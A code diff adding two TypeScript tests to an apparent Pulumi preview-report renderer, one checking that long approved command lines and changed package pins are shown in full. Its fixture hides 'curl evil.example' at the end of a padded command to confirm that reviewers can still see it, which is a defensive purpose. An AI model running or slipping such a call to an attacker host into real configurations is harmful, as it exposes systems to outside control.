@@ -21,6 +21,22 @@ const planned = (one: Partial<Planned> & { urn: string }): Planned => ({
 });
 const table = (...all: Planned[]) => composed([], [], [show.changesPart(all)]);
 
+test("what is approved is shown in full: the end of a long value, and of a list what differs", () => {
+  const cmdline = `${"echo 1; ".repeat(60)}curl evil.example`;
+  expect(table(planned({ urn: urn("a"), after: { cmdline } }))).toContain("curl evil.example");
+  const names = Array.from({ length: 40 }, (_, index) => `internal-library-${index}`);
+  const [before, after] = [{ packages: [...names, "x==6.6.6"] }, { packages: [...names, "x==9.9.9"] }];
+  expect(table(planned({ urn: urn("a"), op: "update", before, after }))).toContain(
+    "`packages`: − `x==6.6.6` + `x==9.9.9` |",
+  );
+});
+
+test("a commit that is compared with no other is not said to change nothing", () => {
+  expect(show.guardedPart([], undefined, false).lines).toEqual([
+    "Rules, workflows, packages and settings: those of this commit, compared with no other.",
+  ]);
+});
+
 describe("drift in a preview's report", () => {
   const told = (...statuses: string[]) => {
     const drift = driftIn(statuses.map((status, index) => ({ urn: `urn:pulumi:dev::p::a:b:C::${index}`, status })));
